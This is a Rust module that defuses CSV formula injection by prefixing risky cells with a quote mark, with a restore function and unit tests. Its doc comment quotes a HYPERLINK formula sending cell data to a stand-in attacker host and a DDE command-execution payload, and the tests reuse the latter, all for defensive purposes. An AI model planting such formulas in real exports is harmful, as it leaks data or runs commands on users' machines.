//! CSV cells that a spreadsheet shows as text, never runs as a formula.
//!
//! Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` (and, in
//! some versions, a tab or carriage return before one) as a formula: a case study titled
//! `=HYPERLINK("https://evil.example/?"&A1,"open")` or `=cmd|' /C calc'!A0` would run when a
//! maintainer opens `data/case-studies.csv` or a collated table. Following OWASP's advice on CSV
//! injection, such a cell is written with a `'` in front, which spreadsheets take as "this is
//! text" and do not show. Plain numbers (`-2`, `+1.5`) are left alone: they cannot be formulas,
//! and they must stay numbers for the sums people make.
//!
//! Every CSV Cairn writes passes its cells through [`defuse`]: the open data (src/data.rs), the
//! collated table (src/collate.rs) and, in the browser, the form page's answer file and the
//! collate page's table (`csvField` in `themes/default/static/js/form.js`, the same rule).
//! [`restore`] undoes it for answer files read back by `cairn collate`.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` would be read as a formula, or is a defused cell itself (so that defusing
/// can be undone exactly).
fn needs_quote(cell: &str) -> bool {
    match cell.chars().next() {
        Some('\'') => needs_quote(&cell[1..]),
        Some(c) if TRIGGERS.contains(&c) => !is_number(cell),
        _ => false,
    }
}

/// A plain decimal number such as `-2`, `+1.5` or `-0.25`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, ""));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
        && !(digits.ends_with('.'))
}

/// The cell as it is written to a CSV file: with a `'` in front when a spreadsheet would
/// otherwise run it, and no stray control character. Quoting for commas and quotes is the writer's job, after this.
pub(crate) fn defuse(cell: &str) -> Cow<'_, str> {
    // Stray control characters (NUL, BEL, ESC) are replaced first: spreadsheets and CSV
    // readers stop or misread at them.
    let cell = crate::text::replace_controls(cell);
    if needs_quote(&cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        cell
    }
}

/// A cell read from a CSV file Cairn (or the form page) wrote: the `'` that [`defuse`] added
/// is taken off again.
pub(crate) fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // Pins which cells are defused (formula starts, not numbers) and that reading undoes it.
    #[test]
    fn formulas_are_defused_and_restored() {
        for (cell, written) in [
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+44 20 7946 0000", "'+44 20 7946 0000"),
            ("-not a number", "'-not a number"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("'=already", "''=already"),
            ("-2", "-2"),
            ("+1.5", "+1.5"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("Plain text", "Plain text"),
            ("it's fine", "it's fine"),
            ("'quoted'", "'quoted'"),
            ("", ""),
        ] {
            assert_eq!(defuse(cell), written, "{cell:?}");
            assert_eq!(restore(written), cell, "{written:?}");
        }
    }
}
